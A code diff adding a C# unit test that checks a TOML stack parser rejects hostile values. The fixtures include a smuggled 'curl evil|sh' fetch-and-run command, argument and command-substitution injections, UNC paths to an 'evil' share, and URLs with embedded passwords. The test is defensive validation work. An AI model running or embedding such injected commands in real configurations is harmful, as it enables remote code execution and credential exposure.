@@ -118,6 +118,26 @@ public sealed class StackReaderTests
         Assert.Equal("ffmpeg", stack.System[0].Name);
     }
 
+    [Theory]
+    [InlineData("[[system]]\ncommand = 'a'\npackages = { debian = 'libgl1; curl evil|sh' }\n", "debian of packages")]
+    [InlineData("[[system]]\ncommand = 'a'\npackages = { arch = '--root /tmp' }\n", "arch of packages")]
+    [InlineData("[[system]]\ncommand = 'a'\npackages = { macos = '$(x)' }\n", "macos of packages")]
+    [InlineData("[[model]]\nname = 'm'\npath = '//evil/share/m.onnx'\n", "path of [[model]]")]
+    [InlineData("[[model]]\nname = 'm'\npath = '\\\\evil\\m.onnx'\n", "path of [[model]]")]
+    [InlineData("[[model]]\nname = 'm'\npath = 'm'\nurls = 'https://me:hunter2@example.org/m'\n", "password")]
+    [InlineData("[[stage]]\nname = 's'\npackages = ['a @ https://me:hunter2@example.org/a.whl']\n", "password")]
+    [InlineData(
+        "[[variant]]\nname = 'v'\nindex = [{ url = 'https://me:hunter2@example.org', packages = ['a'] }]\n",
+        "password"
+    )]
+    [InlineData("[requires]\ndisk = '99999999999999999999999999 TB'\n", "disk")]
+    public void What_would_reach_a_shell_another_machine_or_a_reader_is_refused(string table, string says)
+    {
+        Assert.False(StackReader.TryRead("a.toml", "[stack]\nname = 'a'\n" + table, out _, out var mistake));
+        Assert.Contains(says, mistake.ToString(), StringComparison.Ordinal);
+        Assert.DoesNotContain("hunter2", mistake.ToString(), StringComparison.Ordinal);
+    }
+
     [Fact]
     public void A_file_of_random_tables_ends_in_a_mistake_and_never_in_an_exception()
     {
